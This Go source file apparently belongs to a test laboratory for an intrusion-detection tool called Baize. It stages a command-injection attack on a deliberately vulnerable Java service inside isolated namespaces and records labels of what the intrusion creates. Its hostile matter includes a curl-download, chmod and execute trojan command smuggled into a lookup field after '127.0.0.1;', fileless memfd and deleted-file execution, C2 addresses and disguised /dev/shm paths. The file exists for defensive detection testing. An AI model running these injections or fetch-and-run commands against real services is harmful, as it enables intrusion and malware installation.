// Package lab stages the intrusion of the incident report on one machine, for
// real and harmlessly: a Java web service with a command-injection hole in one
// network namespace, the intruder with download server, C2 and name server in
// another, and no route from either to the machine's own network.
//
// The lab also writes the labels: which processes and files the intrusion made,
// from what the service, the trojan and the C2 themselves report, never from
// what Baize says.
package lab

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"time"
)

// Addresses of the laboratory. The outer ones are documentation addresses.
const (
	ServiceAddress = "10.203.0.2"
	routerAddress  = "10.203.0.1"
	servicePort    = "8080"

	AttackerAddress = "203.0.113.50"
	nameServer      = "203.0.113.53"
)

// DNSLog is a name that only a scan for blind holes asks for.
const DNSLog = "k3x9.dnslog.cn"

// Round is one delivery of the trojan: its own name, bytes and addresses.
type Round struct {
	// Remote is the name on the download server, Path where the shell puts it.
	Remote, Path string
	// Download and C2 are outer addresses; C2 has a port.
	Download, C2 string
}

// Rounds of the report: after the first was fought off, everything rotated.
var Rounds = []Round{
	{Remote: "t", Path: "/dev/shm/kworker", Download: "203.0.113.9", C2: "203.0.113.77:443"},
	{Remote: "u", Path: "/dev/shm/databus00000000abc", Download: "198.51.100.20", C2: "198.51.100.23:443"},
}

// Command is what the intruder injects to deliver the round.
func (r Round) Command() string {
	return fmt.Sprintf("curl -s http://%s/%s -o %s; chmod +x %s; %s", r.Download, r.Remote, r.Path, r.Path, r.Path)
}

// Fileless are commands that run the round's image, once it is there, as a
// memfd and as a file that was deleted before it was executed.
func (r Round) Fileless() []string { return []string{r.Path + " memfd", r.Path + " deleted"} }

// Options of a Lab.
type Options struct {
	// Name tells this laboratory's namespaces from others'.
	Name string
	// Beacons bounds a trojan's life in seconds.
	Beacons int
	// Wrap is put before every command of the victim, for example to start it
	// in a cgroup.
	Wrap []string
}

// Lab is a running laboratory. Close ends it.
type Lab struct {
	opts    Options
	lock    *os.File
	dir     string
	space   *namespaces
	outside *outside
	service *service
	labels  recorder
}

// Start builds the programs, makes the namespaces and starts both sides. It
// needs root.
func Start(ctx context.Context, opts Options) (lab *Lab, err error) {
	lab = &Lab{opts: opts}
	defer func() {
		if err != nil {
			err = errors.Join(fmt.Errorf("laboratory: %w", err), lab.Close())
		}
	}()
	if lab.lock, err = lock(ctx); err != nil {
		return lab, err
	}
	if lab.dir, err = os.MkdirTemp("", "baize-lab-"); err != nil {
		return lab, err
	}
	if err = os.Chmod(lab.dir, 0o755); err != nil {
		return lab, err
	}
	if err = lab.build(ctx); err != nil {
		return lab, err
	}
	if lab.space, err = newNamespaces(ctx, opts.Name); err != nil {
		return lab, err
	}
	if lab.outside, err = startOutside(lab.dir, lab.space.outer, &lab.labels); err != nil {
		return lab, err
	}
	lab.service, err = startService(ctx, lab.dir, lab.space.inner, opts.Wrap, &lab.labels)
	return lab, err
}

// Close ends every process the lab started, removes its namespaces and the
// files the intrusion left.
func (l *Lab) Close() error {
	var all []error
	if l.service != nil {
		all = append(all, l.service.stop())
	}
	all = append(all, l.endTrojans())
	if l.outside != nil {
		all = append(all, l.outside.stop())
	}
	if l.space != nil {
		all = append(all, l.space.remove())
	}
	all = append(all, l.removeFiles())
	if l.dir != "" {
		all = append(all, os.RemoveAll(l.dir))
	}
	if l.lock != nil {
		all = append(all, l.lock.Close())
	}
	return errors.Join(all...)
}

// Inject sends command through the hole and returns what the service answered,
// after the shell has ended.
func (l *Lab) Inject(ctx context.Context, command string) (answer string, err error) {
	l.labels.addCommand(command)
	return l.outside.attack(ctx, "http://"+ServiceAddress+":"+servicePort+"/lookup", "127.0.0.1;"+command)
}

// Health asks the service whether it is well, as an ordinary client: no shell.
func (l *Lab) Health(ctx context.Context) error {
	_, err := l.outside.attack(ctx, "http://"+ServiceAddress+":"+servicePort+"/health", "")
	return err
}

// WaitBeacon waits until n trojans, whose image had that path or one that begins
// with it, have spoken to their C2.
func (l *Lab) WaitBeacon(ctx context.Context, path string, n int) error {
	for {
		if l.labels.trojansAt(path) >= n {
			return nil
		}
		select {
		case <-ctx.Done():
			return fmt.Errorf("fewer than %d beaconing trojans from %s: %w", n, path, ctx.Err())
		case <-time.After(50 * time.Millisecond):
		}
	}
}

// ServicePID is the web service's process id.
func (l *Lab) ServicePID() int { return l.service.pid() }

// Labels is a copy of what the intrusion is known to have made so far.
func (l *Lab) Labels() Labels { return l.labels.copy() }

func (l *Lab) downloads() string { return filepath.Join(l.dir, "downloads") }
